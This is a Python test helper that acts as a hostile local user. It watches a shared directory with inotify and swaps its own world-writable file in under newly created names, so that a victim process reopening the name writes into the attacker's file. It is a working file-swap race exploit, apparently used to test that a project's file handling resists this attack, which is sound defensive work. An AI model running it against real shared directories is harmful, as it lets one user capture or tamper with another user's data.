"""Attacker code for another local user (tests/functional/test_other_users.py): watch a
directory the attacker may write and, whenever a file whose name starts with PREFIX appears
there, rename a world-readable file of the attacker's own over it at once; the process that
created the file then writes into the attacker's file if it opens the name a second time.

    python name_swapper.py DIRECTORY PREFIX

Prints "ready" once it watches, then swaps until killed. inotify through ctypes: the standard
library has no binding, and an attacker needs nothing else.
"""

from __future__ import annotations

import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
_EVENT = struct.Struct("iIII")      # wd, mask, cookie, len; the name follows


def bait(directory: str) -> str:
    """A fresh empty file of ours, readable and writable by everyone, ready to be renamed."""
    path = os.path.join(directory, ".bait")
    fd = os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o666)
    os.fchmod(fd, 0o666)
    os.close(fd)
    return path


def main(directory: str, prefix: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init()
    if watch < 0 or libc.inotify_add_watch(watch, directory.encode(), IN_CREATE) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    ready = bait(directory)
    print("ready", flush=True)
    while True:
        events = os.read(watch, 65536)
        offset = 0
        while offset < len(events):
            _, _, _, length = _EVENT.unpack_from(events, offset)
            name = events[offset + _EVENT.size:offset + _EVENT.size + length].rstrip(b"\0").decode()
            offset += _EVENT.size + length
            if name.startswith(prefix):
                os.rename(ready, os.path.join(directory, name))
                ready = bait(directory)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
